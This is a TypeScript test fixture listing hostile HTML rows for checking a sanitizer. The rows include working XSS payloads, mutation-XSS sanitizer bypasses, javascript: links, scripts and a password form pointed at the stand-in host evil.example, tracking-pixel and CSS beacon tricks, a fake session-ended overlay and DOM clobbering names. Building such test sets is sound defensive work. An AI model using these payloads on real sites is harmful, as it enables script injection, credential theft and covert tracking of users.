/**
 * Hostile HTML, a row for each way in. `ran()` in a payload tells that a script was executed;
 * `evil.example` is the host that must not be asked for anything. Sources: the OWASP and PortSwigger cheat sheets,
 * the published bypasses of DOMPurify, sanitize-html and of mail clients' picture blocking.
 */
export type HtmlRow = {
  readonly name: string;
  readonly html: string;
  /** Whether what stands in it is to be clicked. */
  readonly click?: boolean;
};

const row = (name: string, html: string): HtmlRow => ({ name, html });
const clicked = (name: string, html: string): HtmlRow => ({ name, html, click: true });
const E = 'http://evil.example';

const SCRIPTS: readonly HtmlRow[] = [
  row('a script', '<script>ran()</script>'),
  row('a script from elsewhere', `<script src="${E}/x.js"></script>`),
  row('a module script', `<script type=module>ran()</script><script type=module src="${E}/m.js"></script>`),
  row('a broken script tag', '<scr<script>ipt>ran()</scr</script>ipt><SCRIPT/x>ran()</SCRIPT >'),
  row('an error handler', '<img src=x onerror=ran()>'),
  row('an error handler after a slash', '<img/src=x/onerror=ran()>'),
  row('a handler with a line feed in its name', '<img src=x onerror\n=\nran()>'),
  row('a load handler of the body', '<body onload=ran() onpageshow=ran()>x'),
  row('a load handler of an SVG', '<svg onload=ran()></svg>'),
  row('a script in an SVG', '<svg><script>ran()</script></svg>'),
  row('an animation that begins', '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>'),
  row(
    'an animation that sets a link',
    '<svg><a><animate attributeName=href values=javascript:ran()></animate><text x=20 y=20>x</text></a></svg>',
  ),
  row('a set in an SVG', '<svg><set onbegin=ran() attributename=x to=y></svg>'),
  row(
    'a foreignObject',
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=ran()></body></foreignObject></svg>',
  ),
  row(
    'a use of a data: SVG',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIGlkPSd4Jz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0ncmFuKCknLz48L3N2Zz4=#x"/></svg>',
  ),
  row('details that toggle', '<details open ontoggle=ran()><summary>x</summary></details>'),
  row('a marquee', '<marquee onstart=ran()>x</marquee>'),
  row(
    'a style animation',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=ran()>x</p>',
  ),
  row('a field that takes the focus', '<input autofocus onfocus=ran()><select autofocus onfocus=ran()>'),
  row('an element that takes the focus', '<p tabindex=1 autofocus onfocus=ran()>x</p>'),
  row('a video that fails', '<video><source onerror=ran()></video><audio src=x onerror=ran()></audio>'),
  row('a frame of javascript', '<iframe src="javascript:ran()"></iframe>'),
  row('a frame with a document', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>'),
  row('an object of data', '<object data="data:text/html,<script>ran()</script>"></object>'),
  row('an embed of javascript', '<embed src="javascript:ran()">'),
  row('an isindex and an applet', '<isindex type=image src=1 onerror=ran()><applet code=x onerror=ran()>'),
  row(
    'a handler in a template',
    '<template><img src=x onerror=ran()></template><template shadowrootmode=open><img src=x onerror=ran()></template>',
  ),
  row(
    'an expression',
    '<p style="width:expression(ran())">x</p><p style="behavior:url(#x);-moz-binding:url(x)">x</p>',
  ),
  row(
    'an XML island',
    '<xml onreadystatechange=ran()><?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>ran()</script></x>',
  ),
  row(
    'a processing instruction',
    `<?xml-stylesheet href="javascript:ran()"?><?php ran() ?><script>ran()</script>`,
  ),
  row('a popover', '<button popovertarget=x>x</button><div id=x popover onbeforetoggle=ran()>y</div>'),
  row(
    'content-visibility',
    '<p oncontentvisibilityautostatechange=ran() style="display:block;content-visibility:auto">x</p>',
  ),
];

const MUTATIONS: readonly HtmlRow[] = [
  row(
    'nested forms and MathML',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  ),
  row(
    'a MathML that closes a style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  ),
  row('an SVG style in a paragraph', '<svg></p><style><a id="</style><img src=1 onerror=ran()>">'),
  row('a title that ends in an id', '<p id="</title><img src=x onerror=ran()>">x</p>'),
  row('a title that ends in an attribute', '<title><p title="</title><img src=x onerror=ran()>"></title>'),
  row('a noscript', '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>'),
  row(
    'a noembed and a noframes',
    '<noembed><p title="</noembed><img src=x onerror=ran()>"></noembed><noframes><p title="</noframes><img src=x onerror=ran()>"></noframes>',
  ),
  row('a textarea', '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>'),
  row(
    'an xmp',
    '<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp><xmp>&lt;img src=x onerror=ran()&gt;</xmp>',
  ),
  row('a plaintext', '<p>x<plaintext><img src=x onerror=ran()>'),
  row('an iframe as raw text', '<iframe><p title="</iframe><img src=x onerror=ran()>"></iframe>'),
  row('a style as raw text', '<style><p title="</style><img src=x onerror=ran()>"></style>'),
  row('a style that is not closed', '<style>p{color:red}<img src=x onerror=ran()>'),
  row('a style string with an end tag', '<style>p{font-family:"</style><img src=x onerror=ran()>"}</style>'),
  row(
    'a style value with an escaped end tag',
    '<style>p{font-family:"\\3c/style>\\3cimg src=x onerror=ran()>"}</style>',
  ),
  row(
    'a style media with an end tag',
    '<style media="</style><img src=x onerror=ran()>">p{color:red}</style>',
  ),
  row('an option', '<select><option>&lt;img src=x onerror=ran()&gt;</option></select>'),
  row('a comment that ends early', '<!--><img src=x onerror=ran()>-->'),
  row('a comment that ends with a bang', '<!-- --!><img src=x onerror=ran()> -->'),
  row('a comment that is not closed', '<p>before</p><!-- <img src=x onerror=ran()>'),
  row('a bogus comment', '<!x><img src=x onerror=ran()><!><//><img src=x onerror=ran()>'),
  row(
    'a CDATA section',
    '<![CDATA[<img src=x onerror=ran()>]]><svg><![CDATA[><img src=x onerror=ran()>]]></svg>',
  ),
  row(
    'a conditional comment',
    '<!--[if gte IE 4]><script>ran()</script><![endif]--><![if !mso]><img src=x onerror=ran()><![endif]>',
  ),
  row('a tag that is not closed', '<img src="x" onerror="ran()" '),
  row('a quote that is not closed', "<a href=\"x title='><img src=x onerror=ran()>'>x"),
  row('a grave accent for a quote', '<img src="x` `<script>ran()</script>"` `onerror=ran()>'),
  row('NULs in names', '<scr\0ipt>ran()</scr\0ipt><img src=x on\0error=ran()><\0script>ran()</script>'),
  row('entities for markup', '&lt;script&gt;ran()&lt;/script&gt;&#60img src=x onerror=ran()&#62'),
  row(
    'a table that throws content out',
    '<table><img src=x onerror=ran()><svg><tr><style><img title="</style><img src=x onerror=ran()>">',
  ),
  row(
    'an annotation of MathML',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=ran()>"></annotation-xml></math>',
  ),
  row(
    'a desc in an SVG',
    '<svg><desc><table><thead><s></desc><style><img title="</style><img src=x onerror=ran()>"></s></svg>',
  ),
  row(
    'a nesting too deep',
    `${'<div>'.repeat(600)}<img src=x onerror=ran()><style><img title="</style><img src=x onerror=ran()>">`,
  ),
  row(
    'an attribute with a strange name',
    '<p x"><img/src=x/onerror=ran()//=1>x</p><p "onclick=ran()<img src=x onerror=ran()>',
  ),
  row(
    'a processing instruction in an attribute',
    '<p title="?><img src=x onerror=ran()>"><?xml <img src=x onerror=ran()>?>',
  ),
];

const LINKS: readonly HtmlRow[] = [
  clicked('a javascript: link', '<a href="javascript:ran()">x</a>'),
  clicked('a javascript: link in mixed case with spaces', '<a href="  JaVaScRiPt:ran()">x</a>'),
  clicked('a javascript: link with tabs and line ends', '<a href="java\tscr\nipt\r:ran()">x</a>'),
  clicked(
    'a javascript: link in entities',
    '<a href="&#106;&#x61vascript&colon;ran()">x</a><a href="java&Tab;script&#58;ran()">y</a>',
  ),
  clicked(
    'a javascript: link after controls',
    '<a href="\x01\x1fjavascript:ran()">x</a><a href="java\0script:ran()">y</a>',
  ),
  clicked('a javascript: link as an address', '<a href="javascript://evil.example/%0aran()">x</a>'),
  clicked(
    'a javascript: link in a new window',
    '<a href="javascript:ran()" target=_top>x</a><a href="javascript:ran()" target=_parent>y</a>',
  ),
  clicked('a vbscript: link', '<a href="vbscript:ran()">x</a>'),
  clicked('a data: link', '<a href="data:text/html,<script>ran()</script>">x</a>'),
  clicked(
    'a blob: and a filesystem: link',
    `<a href="blob:${E}/1">x</a><a href="filesystem:${E}/temporary/x">y</a>`,
  ),
  clicked(
    'a javascript: link in an SVG',
    '<svg><a xlink:href="javascript:ran()"><text x=20 y=20>x</text></a></svg>',
  ),
  clicked(
    'a javascript: link in MathML',
    '<math><mi href="javascript:ran()" xlink:href="javascript:ran()">x</mi></math>',
  ),
  clicked(
    'a javascript: area',
    '<map name=m><area shape=default href="javascript:ran()"></map><img usemap=#m width=50 height=50>',
  ),
  clicked(
    'a javascript: link under a base',
    '<base href="javascript:/a/-ran()///////"><a href="../lol/safari.html">x</a>',
  ),
  clicked(
    'a javascript: form',
    '<form action="javascript:ran()"><button>x</button><input type=submit></form>',
  ),
  clicked('a javascript: button', '<form><button formaction="javascript:ran()">x</button></form>'),
  clicked(
    'a form',
    `<form action="${E}/log-in" method=post><input name=password value=x><button>Log in</button></form>`,
  ),
  clicked(
    'a form by another element',
    `<form id=f action="${E}/log-in" method=post></form><button form=f>x</button><input type=image form=f src=x>`,
  ),
  clicked(
    'a link into our own pages',
    '<a href="/logout">x</a><a href="../../../account">y</a><a href="?images=1">z</a>',
  ),
  clicked(
    'a link without a scheme',
    '<a href="//evil.example/x">x</a><a href="\\\\evil.example/y">y</a><a href="/\\evil.example/z">z</a>',
  ),
];

const TRACKERS: readonly HtmlRow[] = [
  row('a picture', `<img src="${E}/1.gif">`),
  row('a picture without a scheme', '<img src="//evil.example/1.gif"><img src="\\\\evil.example\\1.gif">'),
  row(
    'a picture with entities and tabs',
    '<img src="ht&Tab;tp://evil.exa&NewLine;mple/1.gif"><img src="&#104;ttp://evil.example/2.gif">',
  ),
  row('a srcset', `<img srcset="${E}/1.gif 1x, ${E}/2.gif 2x" src=x>`),
  row('a picture element', `<picture><source srcset="${E}/1.gif"><img src=x></picture>`),
  row('lowsrc and dynsrc', `<img lowsrc="${E}/1.gif" dynsrc="${E}/2.gif" longdesc="${E}/3">`),
  row('an input of type image', `<input type=image src="${E}/1.gif">`),
  row(
    'a background attribute',
    `<body background="${E}/1.gif"><table background="${E}/2.gif"><td background="${E}/3.gif">x</td></table>`,
  ),
  row(
    'a poster and sounds',
    `<video poster="${E}/1.gif" src="${E}/v.mp4" autoplay></video><audio src="${E}/a.mp3" autoplay preload=auto></audio><track src="${E}/t">`,
  ),
  row(
    'a bgsound and an embed',
    `<bgsound src="${E}/1.wav"><embed src="${E}/2.swf"><object data="${E}/3"></object>`,
  ),
  row('frames', `<iframe src="${E}/1"></iframe><frameset><frame src="${E}/2"></frameset>`),
  row(
    'a picture in an SVG',
    `<svg><image href="${E}/1.gif" xlink:href="${E}/2.gif" width=9 height=9 /><feImage href="${E}/3.gif"/></svg>`,
  ),
  row(
    'a use and a pattern in an SVG',
    `<svg><use href="${E}/1.svg#x"/><rect fill="url(${E}/2.svg#p)" width=9 height=9 /></svg>`,
  ),
  row(
    'a link to a sheet',
    `<link rel=stylesheet href="${E}/1.css"><link rel="alternate stylesheet" href="${E}/2.css" title=x>`,
  ),
  row(
    'links that fetch ahead',
    `<link rel=prefetch href="${E}/1"><link rel=preload as=image href="${E}/2"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${E}"><link rel=prerender href="${E}/3"><link rel=icon href="${E}/4"><link rel=modulepreload href="${E}/5"><link rel=manifest href="${E}/6">`,
  ),
  row('a refresh', `<meta http-equiv=refresh content="0;url=${E}/1">`),
  row(
    'a refresh to javascript',
    '<meta http-equiv=refresh content="0;url=javascript:ran()"><meta http-equiv="refresh" content="0;url=data:text/html,<script>ran()</script>">',
  ),
  row(
    'a policy that reports',
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${E}/1"><img src="${E}/2.gif">`,
  ),
  row('a base', `<base href="${E}/"><img src="1.gif"><a href="2">x</a>`),
  row('a manifest', `<html manifest="${E}/1"><img src=x></html>`),
  clicked('a ping', `<a href="#x" ping="${E}/1">x</a>`),
  row(
    'speculation',
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${E}/1"]}]}</script>`,
  ),
];

const css = (name: string, style: string): HtmlRow =>
  row(name, `<style>p,ul{${style}}</style><p style='${style.replaceAll("'", '"')}'>x</p><ul><li>x</ul>`);

const STYLES: readonly HtmlRow[] = [
  css('a background', `background:url(${E}/1.gif)`),
  css('a background in quotes and mixed case', `background-image:URL( "${E}/1.gif" )`),
  css('an escaped url()', `background:u\\72l(${E}/1.gif);background:\\75\\72\\6c(${E}/2.gif)`),
  css('a url() with a comment in front', `background:/**/url(${E}/1.gif)/*x*/`),
  css('a url() after a broken string', `font-family:'x\n;background:url(${E}/1.gif)`),
  css(
    'image-set()',
    `background:image-set("${E}/1.gif" 1x);background:-webkit-image-set(url(${E}/2.gif) 1x)`,
  ),
  css('cross-fade() and element()', `background:-webkit-cross-fade(url(${E}/1.gif),url(${E}/2.gif),50%)`),
  css('a list style', `list-style-image:url(${E}/1.gif);list-style:url(${E}/2.gif)`),
  css(
    'a border image',
    `border:9px solid;border-image:url(${E}/1.gif) 9;border-image-source:url(${E}/2.gif)`,
  ),
  css('content', `content:url(${E}/1.gif)`),
  css('a cursor', `cursor:url(${E}/1.gif),auto`),
  css(
    'a filter and a mask',
    `filter:url(${E}/1.svg#x);mask:url(${E}/2.svg#x);-webkit-mask-image:url(${E}/3.gif)`,
  ),
  css('a shape and a clip path', `float:left;shape-outside:url(${E}/1.gif);clip-path:url(${E}/2.svg#x)`),
  css('a custom property', `--x:url(${E}/1.gif);background:var(--x)`),
  css('src()', `background:src("${E}/1.gif")`),
  row('an import', `<style>@import "${E}/1.css";@import url(${E}/2.css);@\\69mport '${E}/3.css';</style>`),
  row(
    'an import after a comment',
    `<style><!-- @import "${E}/1.css"; --></style><style>/**/@charset "x";@import "${E}/2.css" layer;</style>`,
  ),
  row('a font', `<style>@font-face{font-family:x;src:url(${E}/1.woff)}p{font-family:x}</style><p>x</p>`),
  row(
    'content before',
    `<style>p::before{content:url(${E}/1.gif)}p::marker{content:url(${E}/2.gif)}</style><p>x</p>`,
  ),
  row(
    'nested rules',
    `<style>p{&:not(x){background:url(${E}/1.gif)}@media all{background:url(${E}/2.gif)}}</style><p>x</p>`,
  ),
  row(
    'rules in rules of other kinds',
    `<style>@media all{p{background:url(${E}/1.gif)}}@supports(color:red){p{background:url(${E}/2.gif)}}@layer x{p{background:url(${E}/3.gif)}}@container (width>0){p{background:url(${E}/4.gif)}}</style><p>x</p>`,
  ),
  row(
    'a namespace and a page',
    `<style>@namespace url(${E}/1);@page{background:url(${E}/2.gif)}@counter-style x{system:cyclic;symbols:url(${E}/3.gif)}</style><p>x</p>`,
  ),
  row(
    'an attribute told by a selector',
    `<style>a[href^="h"]{background:url(${E}/1.gif)}</style><a href="${E}">x</a>`,
  ),
  row(
    'a media attribute',
    `<style media="all{}p{background:url(${E}/1.gif)}@media all">p{background:url(${E}/2.gif)}</style><p>x</p>`,
  ),
  row(
    'a style that covers everything',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:2147483647;background:#fff">Your session has ended</div>',
  ),
  row(
    'a style that leaves the frame',
    '<style>html,body{position:absolute;top:-900px;left:-900px;margin:-900px;z-index:999999;width:9000px}</style><p style="margin:-900px;transform:translate(-900px,-900px)">x</p>',
  ),
];

const CLOBBERING: readonly HtmlRow[] = [
  row(
    'names of the document',
    '<img name=body><img name=cookie><form name=forms><input name=attributes></form><a id=location name=location href=x>x</a><p id=__proto__ name=constructor>x</p>',
  ),
  row('an id of ours', '<p id=main class="toolbar notice">x</p>'),
  row('an end of our document', '</body></html><script>ran()</script></iframe></main><script>ran()</script>'),
  row(
    'another document',
    '<!doctype html><html><head><title>x</title></head><body onload=ran()><h1>y</h1></body></html><html onclick=ran()>',
  ),
];

export const HTML_ROWS: readonly HtmlRow[] = [
  ...SCRIPTS,
  ...MUTATIONS,
  ...LINKS,
  ...TRACKERS,
  ...STYLES,
  ...CLOBBERING,
];
